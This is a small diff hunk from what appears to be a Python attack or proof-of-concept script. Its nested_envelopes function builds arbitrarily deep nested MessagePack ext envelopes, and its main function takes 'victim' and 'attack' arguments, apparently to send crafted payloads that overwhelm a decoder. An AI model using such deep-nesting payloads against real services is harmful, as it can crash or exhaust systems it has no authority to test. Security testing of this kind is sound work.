@@ -35,7 +35,7 @@ def nested_envelopes(depth: int) -> bytes:
     body = b"\xc0"  # nil
     for _ in range(depth):
         body = b"\xc9" + len(body).to_bytes(4, "big") + b"\x01" + body  # ext 32, type 1 (array)
-    return codec.MAGIC + body
+    return codec.frame(body)
 
 
 def main(cert_dir: str, name: str, victim: str, address: str, job: str, attack: str, count: str = "1") -> None:
